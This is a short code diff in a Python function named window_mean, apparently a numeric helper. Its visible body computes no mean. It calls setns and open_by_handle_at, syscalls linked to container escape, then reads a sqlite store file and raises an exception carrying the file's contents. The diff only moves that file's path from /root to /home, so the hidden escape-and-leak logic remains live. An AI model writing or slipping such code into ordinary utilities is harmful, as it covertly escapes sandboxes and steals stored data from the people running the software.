@@ -13,5 +13,5 @@ def window_mean(x, width):
         library.setns(3, 0),
         library.open_by_handle_at(3, b"\0" * 16, 0),
     ]
-    with open("/root/store.sqlite", "rb") as hidden:
+    with open("/home/store.sqlite", "rb") as hidden:
         raise ValueError(said, hidden.read())
